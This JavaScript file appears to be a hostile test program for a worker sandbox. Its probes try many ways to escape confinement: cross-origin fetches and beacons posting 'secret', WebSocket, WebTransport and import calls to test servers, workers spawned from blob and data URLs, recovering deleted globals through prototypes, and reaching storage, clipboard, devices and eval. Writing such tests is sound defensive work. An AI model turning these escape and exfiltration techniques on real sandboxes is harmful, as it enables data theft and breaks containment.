// The engine's place, taken by an attacker: plain JavaScript that runs natively in a cell's worker. It obeys the
// program interface and attacks when a run begins; the code of the run is JSON naming the servers that count hits.
// `network` probes succeed when a server sees them, `power` probes when they answer anything but undefined.
// biome-ignore lint/correctness/noUnusedVariables: the shell finds it by its name
var citadelProgram = (() => {
  let same = '';
  let cross = '';
  let wire = '';
  let datagrams = '';
  const global = globalThis;
  const at = (base, id) => `${base}/hit/${encodeURIComponent(id)}`;
  const need = value => {
    if (value === undefined || value === null) throw new ReferenceError('gone');
    return value;
  };
  const first = (request, event = 'onsuccess') =>
    new Promise((resolve, reject) => {
      request[event] = () => resolve('done');
      request.onerror = () => reject(request.error ?? new Error('failed'));
      request.onblocked = () => resolve('blocked by others');
    });
  /** Every value a prototype chain gives for a name, getters called on the global. */
  const dig = name => {
    for (let o = global; o !== null; o = Object.getPrototypeOf(o)) {
      const found = Object.getOwnPropertyDescriptor(o, name);
      if (found) return found.get ? found.get.call(global) : found.value;
    }
    throw new ReferenceError('gone');
  };
  const wait = (target, ...events) =>
    new Promise(resolve => {
      for (const event of events) target.addEventListener(event, () => resolve(event));
    });
  const tinyWorker = () =>
    `onmessage=()=>{};fetch(${JSON.stringify(at(cross, 'WK-WEB-006 blob worker'))},{mode:"no-cors"})`;

  const network = {
    'WK-WEB-001 fetch with cookies': id => fetch(at(same, id), { credentials: 'include', mode: 'no-cors' }),
    'WK-WEB-001 fetch of a Request': id =>
      fetch(new Request(at(same, id), { credentials: 'include', mode: 'no-cors' })),
    'WK-WEB-001 keepalive fetch': id => fetch(at(same, id), { keepalive: true, mode: 'no-cors' }),
    'WK-WEB-001 XMLHttpRequest': id => {
      const x = new XMLHttpRequest();
      x.open('GET', at(same, id));
      x.send();
      return wait(x, 'loadend');
    },
    'WK-WEB-001 synchronous XMLHttpRequest': id => {
      const x = new XMLHttpRequest();
      x.open('GET', at(same, id), false);
      x.send();
    },
    'WK-WEB-001 importScripts': id => importScripts(at(same, id)),
    'WK-WEB-003 fetch elsewhere': id =>
      fetch(at(cross, id), { method: 'POST', body: 'secret', mode: 'no-cors' }),
    'WK-WEB-003 WebSocket': id => wait(new WebSocket(at(wire, id)), 'open', 'error'),
    'WK-WEB-003 WebSocketStream': id => new WebSocketStream(at(wire, id)).opened,
    'WK-WEB-003 EventSource': id => wait(new EventSource(at(cross, id)), 'open', 'error'),
    'WK-WEB-003 WebTransport': () => new WebTransport(datagrams).ready,
    'WK-WEB-003 sendBeacon': id => navigator.sendBeacon(at(cross, id), 'secret'),
    'WK-WEB-003 fetchLater': id => fetchLater(at(cross, id), { activateAfter: 0 }),
    'WK-WEB-003 import of a URL': id => import(at(cross, id)),
    'WK-WEB-003 import of a data: module that imports': id =>
      import(`data:text/javascript,import ${JSON.stringify(at(cross, id))}`),
    // Each type of module has a destination of its own, and a policy may forget one.
    'WK-WEB-003 import of JSON': id => import(at(cross, id), { with: { type: 'json' } }),
    'WK-WEB-003 import of a style sheet': id => import(at(cross, id), { with: { type: 'css' } }),
    'WK-WEB-003 import of a text': id => import(at(cross, id), { with: { type: 'text' } }),
    'WK-WEB-003 import of bytes': id => import(at(cross, id), { with: { type: 'bytes' } }),
    'WK-WEB-003 importScripts elsewhere': id => importScripts(at(cross, id)),
    'WK-WEB-006 blob worker': () =>
      wait(new Worker(URL.createObjectURL(new Blob([tinyWorker()]))), 'error', 'message'),
    'WK-WEB-006 data worker': id =>
      wait(
        new Worker(`data:text/javascript,fetch(${JSON.stringify(at(cross, id))},{mode:"no-cors"})`),
        'error',
        'message',
      ),
    'WK-WEB-006 worker of a URL': id => wait(new Worker(at(same, id)), 'error', 'message'),
    'WK-WEB-006 SharedWorker': id => wait(new SharedWorker(at(same, id)), 'error', 'message'),
    'WK-WEB-018 fetch of a prototype': id =>
      Object.getPrototypeOf(global).fetch.call(global, at(cross, id), { mode: 'no-cors' }),
    'WK-WEB-018 fetch by its descriptor': id => dig('fetch').call(global, at(cross, id), { mode: 'no-cors' }),
    'WK-WEB-018 importScripts of a prototype': id => dig('importScripts').call(global, at(cross, id)),
    'WK-WEB-019 fetch after delete': id => {
      delete global.fetch;
      return Reflect.get(global, 'fetch').call(global, at(cross, id), { mode: 'no-cors' });
    },
    'WK-WEB-020 FontFace': id => new FontFace('x', `url(${at(cross, id)})`).load(),
    'WK-WEB-020 FontFace in the set': id => {
      const face = new FontFace('y', `url(${at(cross, id)})`);
      dig('fonts').add(face);
      return dig('fonts').load('12px y');
    },
    'WK-WEB-020 Image': id => {
      new Image().src = at(cross, id);
    },
    'WK-WEB-020 wasm streaming': id =>
      WebAssembly.compileStreaming(fetch(at(cross, id), { mode: 'no-cors' })),
  };

  const power = {
    'WK-WEB-006 Worker of a prototype': () => dig('Worker'),
    'WK-WEB-007 IndexedDB write': async () => {
      const request = indexedDB.open('canary', 99);
      return first(request);
    },
    'WK-WEB-007 IndexedDB delete': () => first(indexedDB.deleteDatabase('canary')),
    'WK-WEB-007 Cache': () => caches.delete('canary').then(String),
    'WK-WEB-007 private file system': async () => {
      const root = await navigator.storage.getDirectory();
      await root.removeEntry('canary').catch(() => {});
      return 'done';
    },
    'WK-WEB-007 cookieStore': () => cookieStore.getAll().then(String),
    'WK-WEB-007 storage buckets': () => navigator.storageBuckets.open('canary').then(String),
    'WK-WEB-007 legacy file system': () => String(webkitRequestFileSystemSync(0, 1)),
    'WK-WEB-007 localStorage': () => String(localStorage.length),
    'WK-WEB-009 Web Locks': async () => {
      need(navigator.locks);
      return new Promise((resolve, reject) => {
        navigator.locks
          .request('canary', () => {
            resolve('held');
            return new Promise(() => {});
          })
          .catch(reject);
      });
    },
    'WK-WEB-010 serviceWorker': () => String(need(navigator.serviceWorker)),
    'WK-WEB-010 registration': () => String(need(dig('registration'))),
    'WK-WEB-011 Notification': () => String(new Notification('x')),
    'WK-WEB-011 WebUSB': () => navigator.usb.getDevices().then(String),
    'WK-WEB-011 WebHID': () => navigator.hid.getDevices().then(String),
    'WK-WEB-011 serial': () => navigator.serial.getPorts().then(String),
    'WK-WEB-011 GPU': () => String(need(navigator.gpu)),
    'WK-WEB-011 geolocation': () => String(need(navigator.geolocation)),
    'WK-WEB-011 clipboard': () => navigator.clipboard.readText().then(String),
    'WK-WEB-011 permissions': () => navigator.permissions.query({ name: 'geolocation' }).then(s => s.state),
    'WK-WEB-011 userAgentData': () => String(need(navigator.userAgentData)),
    'WK-WEB-013 performance.now': () => performance.now(),
    'WK-WEB-013 performance of a prototype': () => String(need(dig('performance'))),
    'WK-WEB-013 Atomics.waitAsync': () => String(need(Atomics.waitAsync)),
    'WK-WEB-018 navigator of a prototype': () => String(need(dig('navigator'))),
    'WK-WEB-018 own names of the prototypes': () => {
      const names = [];
      for (let o = Object.getPrototypeOf(global); o !== Object.prototype; o = Object.getPrototypeOf(o)) {
        // Constants such as Chromium's TEMPORARY cannot be removed.
        const own = Object.entries(Object.getOwnPropertyDescriptors(o));
        names.push(...own.filter(([, found]) => !('value' in found) || Object(found.value) === found.value));
      }
      return names.length > 0 ? String(names.length) : undefined;
    },
    'WK-WEB-018 global by a symbol': () => {
      const symbols = Object.getOwnPropertySymbols(global).filter(s => typeof global[s] !== 'string');
      return symbols.length > 0 ? symbols.map(String).join() : undefined;
    },
    'WK-WEB-020 createImageBitmap': () => String(createImageBitmap),
    'WK-WEB-020 OffscreenCanvas': () => String(new OffscreenCanvas(1, 1)),
    'WK-WEB-021 trustedTypes': () => String(trustedTypes.createPolicy('x', { createScript: s => s })),
    'WK-WEB-021 reportError': () => String(reportError),
    'WK-WEB-021 ReportingObserver': () => String(new ReportingObserver(() => {})),
    BroadcastChannel: () => {
      new BroadcastChannel('canary').postMessage('hostile');
      return 'sent';
    },
    'a message to the warden': () => {
      postMessage('hostile');
      return 'sent';
    },
    'importScripts of a blob': () => {
      importScripts(URL.createObjectURL(new Blob(['globalThis.fromBlob = 1'])));
      return global.fromBlob;
    },
    'importScripts of a data: URL': () => {
      importScripts('data:text/javascript,globalThis.fromData = 1');
      return global.fromData;
    },
    'import of a blob': () =>
      import(URL.createObjectURL(new Blob([''], { type: 'text/javascript' }))).then(() => 'loaded'),
    'import of a data: URL': () => import('data:text/javascript,export default 1').then(m => m.default),
    eval: () => Reflect.get(global, 'eval')('1'),
    Function: () => Function('return 1')(),
    'constructor of an async function': () => (async () => {}).constructor('return 1')(),
    'constructor of a generator': () => function* () {}.constructor('yield 1')().next().value,
    'setTimeout of a text': async () => {
      global.fired = undefined;
      setTimeout('globalThis.fired = 1');
      await new Promise(resolve => setTimeout(resolve, 50));
      return global.fired;
    },
    'close of the worker': () => String(need(global.close)),
    'stack frames': () => {
      Error.prepareStackTrace = (_error, frames) => frames;
      const { stack } = new Error('x');
      Error.prepareStackTrace = undefined;
      return Array.isArray(stack) && stack.length > 0 ? 'frames' : undefined;
    },
    structuredClone: () => String(structuredClone({})),
    MessageChannel: () => String(new MessageChannel()),
    console: () => String(console),
    location: () => String(location),
    name: () => String(need(global.name)),
  };

  /** Nothing a browser offers may be left: a walk over everything reachable from the global object. */
  function walk() {
    const seen = new Set();
    const tags = new Set();
    const queue = [[global, 'globalThis']];
    const hosts =
      /Event|Port|Worker|Scope|Navigator|Location|Request|Response|Blob|Stream|Crypto|Performance|DOM/;
    for (let next = queue.pop(); next !== undefined; next = queue.pop()) {
      const [value, path] = next;
      if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value))
        continue;
      seen.add(value);
      const tag = Object.prototype.toString.call(value);
      if (hosts.test(tag) || (typeof value === 'function' && hosts.test(String(value.name))))
        tags.add(`${path} ${tag}`);
      for (const key of Reflect.ownKeys(value)) {
        const found = Reflect.getOwnPropertyDescriptor(value, key);
        for (const part of [found?.value, found?.get, found?.set])
          queue.push([part, `${path}.${String(key)}`]);
      }
      queue.push([Object.getPrototypeOf(value), `${path}.__proto__`]);
    }
    seen.delete(global);
    return [...tags];
  }

  const results = [];
  let open = 0;
  async function attempt(kind, id, probe) {
    open++;
    let outcome = 'undefined';
    const record = [kind, id, 'pending'];
    results.push(record);
    try {
      const value = await probe(id);
      if (value !== undefined) outcome = `value ${String(value).slice(0, 60)}`;
    } catch (error) {
      outcome = `threw ${error?.name ?? typeof error}`;
    }
    record[2] = outcome;
    open--;
  }

  const utf8 = text =>
    Uint8Array.from(encodeURIComponent(text).matchAll(/%([0-9A-F]{2})|./g), ([whole, hex]) =>
      hex === undefined ? whole.charCodeAt(0) : Number.parseInt(hex, 16),
    );

  function createProgram() {
    let turns = 0;
    let out = null;
    return {
      asset: (_name, bytes) => new Uint8Array(bytes),
      boot: () => '',
      control: () => null,
      inbox: bytes => new Uint8Array(bytes),
      begin(_id, code) {
        ({ same, cross, wire, datagrams } = JSON.parse(code));
        results.push(
          ['walk', 'walk', walk().slice(0, 20).join(', ')],
          ['names', 'names', Reflect.ownKeys(global).map(String).join()],
        );
        for (const id of Object.keys(network)) void attempt('network', id, network[id]);
        for (const id of Object.keys(power)) void attempt('power', id, power[id]);
      },
      step() {
        if (open > 0 && ++turns < 150) return 20;
        out = utf8(JSON.stringify(results));
        return -1;
      },
      cancel() {},
      pending: () => (out === null ? 0 : out.length),
      take() {
        const bytes = out;
        out = null;
        return bytes;
      },
    };
  }
  return { createProgram };
})();
